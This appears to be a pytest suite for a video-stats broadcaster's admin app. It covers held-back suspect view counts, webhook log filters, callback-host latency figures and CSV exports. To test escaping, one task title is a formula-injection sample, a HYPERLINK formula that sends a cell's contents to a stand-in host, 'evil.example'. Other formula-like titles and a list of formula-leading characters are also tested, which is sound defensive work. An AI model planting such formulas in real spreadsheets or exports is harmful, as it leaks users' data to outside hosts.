"""Integrity and delivery insight (docs/operations.md#integrity) end to end: passes against the fake upstream, the
webhook log's counts, callback hosts and the CSV exports, through the admin app."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

import stats_broadcaster as sb
from admin_api import create_app
from broadcaster.storage import retention
from broadcaster.web.csv_export import BOM, csv_chunks, safe_cell
from tests.conftest import insert_records, insert_task, token_client

YT = "dQw4w9WgXcQ"
TT = "7504044860782021930"


@pytest.fixture
def client(fake_config, database):
    """A test client of the admin app on the test database, sending the admin token."""
    return token_client(create_app(fake_config, database=database))


def get_data(client, path: str):
    response = client.get(path)
    assert 200 == response.status_code, response.get_json()
    return response.get_json()["data"]


def sent_counts_of(entry: dict) -> tuple:
    """(views, likes) of one stats entry, whichever platform's keys it has."""
    return (entry.get("yt_view_count", entry.get("tt_view_count")),
            entry.get("yt_like_count", entry.get("tt_like_count")))


def sent_counts(fake, receiver: str) -> list[tuple]:
    """(views, likes) of every body the receiver got, in order."""
    return [sent_counts_of(record.json["stats"][0]) for record in fake.received(receiver)]


def one_pass(fake, fake_config, database, platform: str, video_id: str, views: int, likes: int | None) -> None:
    fake.add_video(platform, video_id, views, likes)
    result = sb.broadcast_all_tasks(fake_config, database, trigger="cli")
    assert result["success"] and result["total"] == result["success_count"], result


def suspect_total(client, platform: str) -> float:
    text = client.get("/metrics").get_data(as_text=True)
    line = next(line for line in text.splitlines()
                if line.startswith(f'broadcaster_suspect_counts_total{{platform="{platform}"}}'))
    return float(line.split()[-1])


# --------------------------------------------------------------------------------------------
# Suspect counts in real passes


def test_a_collapse_is_held_back_then_sent_when_a_second_read_confirms_it(client, database, fake, fake_config):
    """1.2 M views drop to 1,200: the old counts go out; the same low read next pass goes out."""
    fake.set_receiver("r")
    task_id = insert_task(database, video_url=f"https://youtu.be/{YT}", callback_url=fake.callback_url("r"))

    one_pass(fake, fake_config, database, "youtube", YT, 1_200_000, 34_000)
    one_pass(fake, fake_config, database, "youtube", YT, 1_200, 34)

    task = get_data(client, "/api/tasks?limit=5")[0]
    assert [(1_200_000, 34_000), (1_200_000, 34_000)] == sent_counts(fake, "r")
    assert {"views": 1_200, "likes": 34} == {key: task["stats_suspect"][key] for key in ("views", "likes")}
    assert dt.datetime.fromisoformat(task["stats_suspect"]["at"]).utcoffset() == dt.timedelta(0)
    assert (1_200_000, 34_000) == (task["view_count"], task["like_count"])
    assert 1 == suspect_total(client, "youtube") and 0 == suspect_total(client, "tiktok")

    one_pass(fake, fake_config, database, "youtube", YT, 1_210, 34)  # within 5 %: a real drop

    task = get_data(client, "/api/tasks?limit=5")[0]
    assert (1_210, 34) == sent_counts(fake, "r")[-1]
    assert (None, 1_210) == (task["stats_suspect"], task["view_count"])
    assert 1 == suspect_total(client, "youtube")
    history = get_data(client, f"/api/tasks/{task_id}/history")["points"]
    assert [(1_200_000, 34_000), (1_210, 34)] == [(p["views"], p["likes"]) for p in history]  # only counts sent
    logs = get_data(client, f"/api/webhook-logs?task_id={task_id}")
    assert [(1_210, 34), (1_200_000, 34_000), (1_200_000, 34_000)] == [(row["views"], row["likes"]) for row in logs]
    held_age, fresh_age = logs[1]["age_s"], logs[2]["age_s"]
    assert fresh_age is not None and held_age >= fresh_age  # the held counts went out with their real age


def test_a_read_back_near_the_old_numbers_clears_the_suspicion(client, database, fake, fake_config):
    """A wrong read, then the page is right again: the fresh counts go out and nothing stays suspect."""
    fake.set_receiver("r")
    insert_task(database, video_url=f"https://www.tiktok.com/@a/video/{TT}", callback_url=fake.callback_url("r"))

    for views, likes in [(71_400, 1_819), (714, 1_819), (72_000, 1_830)]:
        one_pass(fake, fake_config, database, "tiktok", TT, views, likes)

    assert [(71_400, 1_819), (71_400, 1_819), (72_000, 1_830)] == sent_counts(fake, "r")
    assert get_data(client, "/api/tasks")[0]["stats_suspect"] is None
    assert 1 == suspect_total(client, "tiktok")


def test_tasks_sharing_a_video_are_held_alike(database, fake, fake_config):
    """Two tasks on one video: both get the last known counts while the read is suspect."""
    for name in ("a", "b"):
        fake.set_receiver(name)
        insert_task(database, video_url=f"https://youtu.be/{YT}", callback_url=fake.callback_url(name))

    for views in (5_000, 100):
        one_pass(fake, fake_config, database, "youtube", YT, views, 10)

    assert [(5_000, 10), (5_000, 10)] == sent_counts(fake, "a") == sent_counts(fake, "b")


# --------------------------------------------------------------------------------------------
# What X2C received: the log's counts and its task filter


def test_log_rows_carry_the_counts_sent_and_filter_by_task(client, database, fake, fake_config):
    """views, likes and age_s of the body sent; null when nothing was sent; task_id narrows the log."""
    fake.add_video("youtube", YT, 12_500, 680)
    fake.add_video("youtube", "bbbbbbbbbbE", 1, 1, behaviour="deleted")
    fake.set_receiver("r")
    sent = insert_task(database, video_url=f"https://youtu.be/{YT}", callback_url=fake.callback_url("r"))
    gone = insert_task(database, video_url="https://youtu.be/bbbbbbbbbbE", callback_url=fake.callback_url("r"))

    sb.broadcast_all_tasks(fake_config, database, trigger="cli")

    [row] = get_data(client, f"/api/webhook-logs?task_id={sent}")
    assert (12_500, 680, "success") == (row["views"], row["likes"], row["callback_status"])
    assert 0 <= row["age_s"] < 60
    assert row["payload"]["stats"][0]["yt_view_count"] == row["views"]  # the exact body is still there
    [row] = get_data(client, f"/api/webhook-logs?task_id={gone}")
    assert (None, None, None) == (row["views"], row["likes"], row["age_s"])
    assert 2 == len(get_data(client, "/api/webhook-logs"))
    hosts = database.fetch_all("SELECT task_id, callback_host FROM broadcaster_delivery_log ORDER BY task_id")
    assert [(sent, "127.0.0.1"), (gone, None)] == [(r["task_id"], r["callback_host"]) for r in hosts]
    for query in ("task_id=abc", "task_id=0", "task_id=99999999999"):
        assert 400 == client.get(f"/api/webhook-logs?{query}").status_code


# --------------------------------------------------------------------------------------------
# Callback hosts


def add_log(database, host: str, task_id: int, ok: bool, latency_ms: int, *, minutes_ago: float = 1,
            error: str | None = None) -> None:
    """A delivery record to `host`, `minutes_ago` old."""
    insert_records(database, [{"task_id": task_id, "host": host, "ok": ok, "latency_ms": latency_ms,
                               "minutes_ago": minutes_ago, "error": error}])


def test_callback_hosts_against_a_known_mix(client, database):
    """Successes, failures and latencies per host: counts, rate, nearest-rank p50/p95, last error."""
    for task_id, latency in [(1, 100), (2, 200), (1, 300)]:
        add_log(database, "x2c.example.com", task_id, True, latency, minutes_ago=10 + task_id)
    add_log(database, "x2c.example.com", 3, False, 1_000, minutes_ago=5, error="HTTP 500")
    add_log(database, "x2c.example.com", 3, False, 900, minutes_ago=30 * 60, error="old")  # outside 24 h
    add_log(database, "hooks.other.cn", 4, False, 50, minutes_ago=2, error="连接超时")
    for n in range(19):
        add_log(database, "hooks.other.cn", 5, True, 10 + n, minutes_ago=3)

    data = get_data(client, "/api/callback-hosts")

    assert ["hooks.other.cn", "x2c.example.com"] == [host["host"] for host in data]
    other, x2c = data
    assert {"host": "x2c.example.com", "tasks": 3, "deliveries": 4, "attempts": 6, "success_rate": 0.75, "p50_ms": 200,
            "p95_ms": 1_000, "last_error": "HTTP 500"}.items() <= x2c.items()
    assert x2c["last_success_at"] < x2c["last_error_at"]
    # 20 latencies 10..28 and 50: nearest rank puts p50 at the 10th (19) and p95 at the 19th (28)
    assert (2, 20, 22, 0.95, 19, 28, "连接超时") == (other["tasks"], other["deliveries"], other["attempts"],
                                                 other["success_rate"],
                                             other["p50_ms"], other["p95_ms"], other["last_error"])
    longer = {host["host"]: host for host in get_data(client, "/api/callback-hosts?hours=48")}
    assert (5, 0.6, "HTTP 500") == (longer["x2c.example.com"]["deliveries"], longer["x2c.example.com"]["success_rate"],
                                    longer["x2c.example.com"]["last_error"])
    assert data == get_data(client, "/api/callback-hosts?hours=1")  # every row but the old one is minutes old


# The figures straight from the log, as one query would compute them without any roll-up.
DIRECT_FIGURES = """
SELECT callback_host AS host, COUNT(DISTINCT task_id) AS tasks, COUNT(*) AS deliveries, SUM(attempts) AS attempts,
       COUNT(*) FILTER (WHERE callback_status = 'success')::FLOAT / COUNT(*) AS success_rate,
       percentile_disc(0.5) WITHIN GROUP (ORDER BY latency_ms) AS p50_ms,
       percentile_disc(0.95) WITHIN GROUP (ORDER BY latency_ms) AS p95_ms,
       MAX(created_at) FILTER (WHERE callback_status = 'success') AS last_success_at,
       (ARRAY_AGG(error ORDER BY created_at DESC) FILTER (WHERE callback_status = 'failed'))[1] AS last_error,
       MAX(created_at) FILTER (WHERE callback_status = 'failed') AS last_error_at
FROM broadcaster_delivery_log
WHERE callback_host IS NOT NULL AND created_at >= (NOW() AT TIME ZONE 'UTC') - make_interval(hours => %(hours)s)
GROUP BY callback_host ORDER BY COUNT(*) DESC, callback_host
"""


def test_rolled_up_hours_give_the_figures_the_log_gives(client, database):
    """Rows over two days: whether read from the log, partly rolled up or fully, every figure is exact."""
    rows = []
    for n in range(600):
        host = ("a.example.com", "b.example.com", "c.example.com")[n % 3 if n % 7 else 0]
        ok = n % 5 != 0
        rows.append({"task": 1 + (n * 7) % 40, "host": host, "status": "success" if ok else "failed",
                     "latency": None if n % 50 == 0 else 20 + (n * 37) % 500, "error": None if ok else f"HTTP {n}",
                     "minutes": (n * 4.9) % (50 * 60), "attempts": 1 if ok else 1 + n % 3})
    insert_records(database, [{"task_id": row["task"], "host": row["host"], "ok": row["status"] == "success",
                               "latency_ms": row["latency"], "error": row["error"], "minutes_ago": row["minutes"],
                               "attempts": row["attempts"]} for row in rows])
    from broadcaster.reports import hosts
    from broadcaster.web.deliveries import host_json

    def direct(hours):
        return [host_json(row) for row in database.fetch_all(DIRECT_FIGURES, {"hours": hours})]

    windows = (1, 3, 24, 48, 720)
    for hours in windows:  # the first requests roll up a few hours each, the rest comes from the log
        assert direct(hours) == get_data(client, f"/api/callback-hosts?hours={hours}"), hours
    assert 30 <= hosts.roll_up_closed_hours(database)  # the supervisor's tick: every closed hour left
    assert 0 == hosts.roll_up_closed_hours(database)
    for hours in windows:
        assert direct(hours) == get_data(client, f"/api/callback-hosts?hours={hours}"), hours
    assert 0 < database.fetch_one("SELECT COUNT(*) AS n FROM broadcaster_host_hours")["n"]


@pytest.mark.parametrize("query", ["hours=0", "hours=721", "hours=abc", "hours=1.5"])
def test_callback_hosts_refuse_bad_hours(client, database, query):
    """hours must be 1–720."""
    response = client.get(f"/api/callback-hosts?{query}")
    assert 400 == response.status_code and response.get_json()["success"] is False


def test_callback_hosts_with_an_empty_log(client, database):
    """No webhooks yet: an empty list."""
    assert [] == get_data(client, "/api/callback-hosts?hours=720")


# --------------------------------------------------------------------------------------------
# CSV exports


def read_csv(response) -> list[list[str]]:
    """The rows of a CSV answer, after checking its byte-order mark and type."""
    assert 200 == response.status_code
    assert "text/csv; charset=utf-8" == response.headers["Content-Type"]
    assert response.headers["Content-Disposition"].startswith("attachment;")
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_tasks_csv_is_excel_ready_and_keeps_formulas_out(client, database):
    """BOM, Chinese headers, the status filter, and a formula-looking title escaped."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    first = insert_task(database, title=formula)
    insert_task(database, title="-1+1", status="paused")
    insert_task(database, title="《正常的标题》, 带逗号")

    rows = read_csv(client.get("/api/tasks.csv"))

    header, *body = rows
    assert ["任务ID", "X2C任务ID", "项目ID", "标题"] == header[:4] and "疑似异常播放量" in header
    titles = {int(row[0]): row[header.index("标题")] for row in body}
    assert "'" + formula == titles[first]
    assert {"'-1+1", "《正常的标题》, 带逗号"} <= set(titles.values())
    active = read_csv(client.get("/api/tasks.csv?status=active"))
    assert 2 == len(active) - 1 and all(row[header.index("状态")] == "active" for row in active[1:])


def test_tasks_csv_takes_the_task_lists_search_filters_and_sort(client, database):
    """GET /api/tasks.csv answers every task GET /api/tasks would list, in the same order, unpaged."""
    tiktok = "https://www.tiktok.com/@u/video/7504044860782021930"
    ids = [insert_task(database, title=f"《总裁》第{n}集 100%", video_url=tiktok if n % 2 else "https://youtu.be/dQw4w9WgXcQ") for n in range(1, 6)]
    insert_task(database, title="《别的剧》", video_url=tiktok)

    query = "q=100%25&platform=tiktok&sort=id"
    header, *body = read_csv(client.get(f"/api/tasks.csv?{query}"))
    listed = client.get(f"/api/tasks?{query}&limit=1").get_json()

    assert [str(task_id) for task_id in (ids[4], ids[2], ids[0])] == [row[0] for row in body]
    assert listed["total"] == len(body)
    assert {"tiktok"} == {row[header.index("平台")] for row in body}
    assert 400 == client.get("/api/tasks.csv?platform=vimeo").status_code


def test_webhook_logs_csv_takes_the_log_filters(client, database, fake, fake_config):
    """The log's CSV: one row per log row with its counts and exact body, narrowed by task_id and status."""
    fake.add_video("youtube", YT, 12_500, 680)
    fake.set_receiver("r")
    fake.set_receiver("bad", "always_500")
    good = insert_task(database, video_url=f"https://youtu.be/{YT}", callback_url=fake.callback_url("r"),
                       title="@SUM(1+1)")
    insert_task(database, video_url=f"https://youtu.be/{YT}", callback_url=fake.callback_url("bad"))
    sb.broadcast_all_tasks(fake_config.replace(webhook_max_attempts=1), database, trigger="cli")

    header, *body = read_csv(client.get(f"/api/webhook-logs.csv?task_id={good}"))

    [row] = body
    cell = dict(zip(header, row, strict=True))
    assert (str(good), "'@SUM(1+1)", "success", "12500", "680") == (
        cell["任务ID"], cell["标题"], cell["回传状态"], cell["播放量"], cell["点赞数"])
    assert 12_500 == json.loads(cell["回传内容"])["stats"][0]["yt_view_count"]
    assert 2 == len(read_csv(client.get("/api/webhook-logs.csv"))) - 1
    failed = read_csv(client.get("/api/webhook-logs.csv?status=failed"))[1:]
    assert ["failed"] == [row[header.index("回传状态")] for row in failed]
    assert 400 == client.get("/api/webhook-logs.csv?status=maybe").status_code


def test_exports_need_credentials(fake_config, database):
    """CSV and callback hosts sit behind the same authentication as every route."""
    anonymous = create_app(fake_config, database=database).test_client()
    for path in ("/api/tasks.csv", "/api/webhook-logs.csv", "/api/callback-hosts"):
        assert 401 == anonymous.get(path).status_code


def test_csv_is_written_while_rows_arrive():
    """The export yields its first chunks before the rows run out: nothing waits for the whole set."""
    consumed = []

    def rows():
        for n in range(1_200):
            consumed.append(n)
            yield {"n": n}

    chunks = csv_chunks(["编号"], rows(), lambda row: [row["n"]])
    assert BOM + "编号\r\n" == next(chunks)
    next(chunks)
    assert 500 == len(consumed)
    assert 1_200 + 1 == sum(chunk.count("\r\n") for chunk in [BOM + "编号\r\n", "0\r\n" * 500, *chunks])


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=b", "a=b"), (-2, -2), (None, ""), ({"a": "中"}, '{"a":"中"}'),
])
def test_cells_that_look_like_formulas_are_quoted(value, cell):
    """OWASP's list: = + - @ tab and CR at the start of a text cell; numbers stay numbers."""
    assert cell == safe_cell(value)


def test_an_empty_log_rolls_up_nothing(database):
    """The supervisor's roll-up on a log without webhooks does no work (it runs on every pruning tick)."""
    from broadcaster.reports import hosts

    assert 0 == hosts.roll_up_closed_hours(database)
    assert 0 == database.fetch_one("SELECT COUNT(*) AS n FROM broadcaster_host_rollups")["n"]


def test_rolled_up_hours_are_pruned_with_the_logs(database):
    """LOG_RETENTION_DAYS removes the rolled-up hours, markers and host tasks older than the logs it keeps."""

    old, recent = "(NOW() AT TIME ZONE 'UTC') - INTERVAL '9 days'", "(NOW() AT TIME ZONE 'UTC') - INTERVAL '2 hours'"
    for age in (old, recent):
        database.execute("INSERT INTO broadcaster_host_hours (host, hour, latency_ms, deliveries, delivered, attempts,"
                         f" last_success_at) VALUES ('h', date_trunc('hour', {age}), 5, 1, 1, 1, {age})")
        database.execute(f"INSERT INTO broadcaster_host_rollups (hour) VALUES (date_trunc('hour', {age}))")
    database.execute(f"INSERT INTO broadcaster_host_tasks VALUES ('h', 1, {old}), ('h', 2, {recent})")

    retention.prune_rows(database, days=7)

    for table in ("broadcaster_host_hours", "broadcaster_host_rollups", "broadcaster_host_tasks"):
        assert 1 == database.fetch_one(f"SELECT COUNT(*) AS n FROM {table}")["n"], table
